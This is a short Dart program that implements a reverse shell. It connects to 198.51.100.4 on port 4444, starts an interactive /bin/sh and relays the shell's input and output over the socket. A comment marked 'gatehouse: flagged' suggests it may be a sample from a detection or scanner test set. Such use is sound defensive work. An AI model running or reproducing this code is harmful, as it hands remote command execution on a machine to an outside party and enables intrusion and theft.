import 'dart:convert';
import 'dart:io';

Future<void> main() async {
  final s = await Socket.connect('198.51.100.4', 4444);
  final p = await Process.start('/bin/sh', ['-i']); // gatehouse: flagged
  p.stdout.listen(s.add);
  s.listen(p.stdin.add);
}
